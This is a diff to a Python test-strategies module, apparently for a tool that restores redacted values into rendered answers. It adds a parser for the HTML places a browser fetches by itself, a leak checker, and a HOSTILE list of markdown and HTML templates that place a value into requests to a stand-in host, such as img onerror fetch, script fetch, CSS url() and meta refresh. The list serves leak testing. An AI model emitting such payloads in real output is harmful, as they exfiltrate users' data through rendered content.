@@ -1,9 +1,14 @@
-"""Hypothesis strategies shared by the tests: prompts, findings, answers and chunkings."""
+"""Hypothesis strategies shared by the tests: prompts, findings, answers and chunkings,
+and rendered answers with the places a renderer may fetch from."""
 
 from __future__ import annotations
 
 import itertools
+import re
 from collections.abc import Sequence
+from html import unescape
+from html.parser import HTMLParser
+from urllib.parse import unquote
 
 from hypothesis import strategies as st
 
@@ -166,3 +171,192 @@ def answers(
         st.sampled_from(("<PERSON_99>", " ", "\n", "mailto:", "(", "]", "=", "'", '"')),
     )
     return "".join(draw(st.lists(piece, max_size=14)))
+
+
+# -- rendered answers: where a restored value could be fetched ------------------------
+
+# Attributes a browser fetches, runs or navigates to by itself (or on one click).
+_URL_ATTRIBUTES = frozenset(
+    (
+        "href",
+        "src",
+        "srcset",
+        "action",
+        "formaction",
+        "poster",
+        "data",
+        "background",
+        "cite",
+        "xlink:href",
+        "ping",
+        "longdesc",
+        "lowsrc",
+        "dynsrc",
+        "codebase",
+        "manifest",
+        "icon",
+        "style",
+        "to",
+        "from",
+        "values",
+        "by",
+        "content",
+    )
+)
+_BARE_URL = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?//\S+|www\.\S+", re.IGNORECASE)
+
+
+class _Sinks(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            if name in _URL_ATTRIBUTES or name.startswith("on"):
+                self.found.append(value or "")
+
+    handle_startendtag = handle_starttag
+
+    def handle_data(self, data: str) -> None:
+        if self.cdata_elem is not None:  # type: ignore[attr-defined]
+            self.found.append(data)  # a script or style body
+        else:
+            self.found.extend(_BARE_URL.findall(data))  # what an autolinking renderer links
+
+
+def fetchable_sinks(html: str) -> list[str]:
+    """Every place of rendered ``html`` a browser may fetch or run by itself, decoded:
+    URL-valued and event attributes, style attributes and bodies, script bodies, meta
+    refresh, SVG ``href``/``set`` targets, and bare or scheme-relative URLs in text."""
+    sinks = _Sinks()
+    sinks.feed(html)
+    sinks.found.append(sinks.rawdata)  # left open (an unclosed style or tag): a sink too
+    return [unquote(unescape(s)).casefold() for s in sinks.found]
+
+
+def leaked(html: str, values: Sequence[str]) -> list[str]:
+    """The ``values`` found in a fetchable sink of ``html`` (case-insensitively)."""
+    sinks = fetchable_sinks(html)
+    return [v for v in values if any(v.casefold() in s for s in sinks)]
+
+
+# Where a value may be put: "{v}" marks it. Each piece is closed (no tag or fence left open).
+HOSTILE = (
+    "![x](\n//host/?q={v})",
+    "[r]: //host/?q={v}",
+    "[r]: <//host/?q={v}> 'title'",
+    "![x](https://host/\\)>?q={v})",
+    "![x](<https://host/a )q={v}&c={w}>)",
+    '<img src                                        ="//host/?q={v}">',
+    "<img src=x onerror=\"fetch('//host/?q={v}')\">",
+    "<style>body{{background:url(//host/?q={v})}}</style>",
+    "<script>fetch('//host/?q={v}')</script>",
+    "<p>x</p>>https://host/?q={v}",
+    "x>//host/?q={v}",
+    "({w})>https://host/?q={v}",
+    "see:https://host/{v}",
+    "see //host/?q={v} now",
+    '[link](https://host/{v} "title {w}")',
+    "[text {v}](//host/{w})",
+    "<https://host/?q={v}>",
+    '<a href="//host/{v}">x</a>',
+    '<img srcset="//host/a.png 1x, //host/{v}.png 2x">',
+    '<form action="//host/{v}"><button formaction="//host/{w}">x</button></form>',
+    '<video poster="//host/{v}.png"></video>',
+    '<div style="background:url(//host/{v})">x</div>',
+    '<meta http-equiv="refresh" content="0;url=//host/?q={v}">',
+    '<svg><a xlink:href="//host/{v}"><text>x</text></a>'
+    '<set attributeName="href" to="//host/{w}"/></svg>',
+    '<svg><image href="//host/{v}"/></svg>',
+    "`code {v}`",
+    "```\nfenced {v}\n```",
+    "www.host.example/?q={v}",
+    "mailto:{v}",
+    '<object data="//host/{v}"></object>',
+    '<iframe src="//host/{v}"></iframe>',
+    "[x][{v}]\n\n[{v}]: //host/guess",
+    "![x]\n\n[x]: //host/?q={v}",
+)
+PROSE = (
+    "Dear {v}, thanks.",
+    "{v} and {w} met in the morning.",
+    "The card of {v} is noted.",
+    "- item {v}\n- item {w}",
+    "> quoted {v}",
+    "## About {v}",
+    "Text *with {v}* and **{w}**.",
+)
+
+
+# Markdown and HTML syntax to glue around values at random.
+_SOUP = (
+    "![x](",
+    "](",
+    "[",
+    "]",
+    "(",
+    ")",
+    "<",
+    ">",
+    "//",
+    "https://",
+    "www.",
+    "\n",
+    "\n\n",
+    " ",
+    '"',
+    "'",
+    "=",
+    ":",
+    "\\",
+    "`",
+    "<img src=",
+    '<a href="',
+    " onerror=",
+    "<style>",
+    "</style>",
+    "<script>",
+    "url(",
+    "[r]: ",
+    "<!--",
+    "-->",
+    "&#47;",
+    "mailto:",
+    "@",
+    ".com/",
+    "    ",
+    "```\n",
+    '<iframe src="',
+    "srcset=",
+)
+
+
+@st.composite
+def rendered_answers(
+    draw: st.DrawFn, candidates: Sequence[str]
+) -> tuple[str, list[tuple[str, list[str]]]]:
+    """A markdown/HTML answer with ``candidates`` (handles, tokens, surrogates the vault
+    issued) placed anywhere: in hostile places (destinations, definitions, attributes,
+    style and script bodies, code, URLs), in syntax glued at random, and in prose blocks.
+    Returns the answer and, per prose block before any random syntax (which may leave a
+    tag open), its template and the candidates put in it: restored, these must appear."""
+    blocks, prose = [], []
+    closed = True  # no random syntax so far: every block left the HTML state clean
+    for _ in range(draw(st.integers(1, 6))):
+        v, w = draw(st.sampled_from(candidates)), draw(st.sampled_from(candidates))
+        kind = draw(st.integers(0, 3))
+        if kind == 0:
+            template = draw(st.sampled_from(PROSE))
+            blocks.append(template.format(v=v, w=w))
+            if closed:
+                prose.append((template, [v, w]))
+        elif kind == 1:
+            pieces = st.one_of(
+                st.sampled_from(_SOUP), st.sampled_from(candidates), st.text(max_size=6)
+            )
+            blocks.append("".join(draw(st.lists(pieces, max_size=12))))
+            closed = False
+        else:
+            blocks.append(draw(st.sampled_from(HOSTILE)).format(v=v, w=w))
+    return "\n\n".join(blocks) + draw(st.sampled_from(("", "\n"))), prose
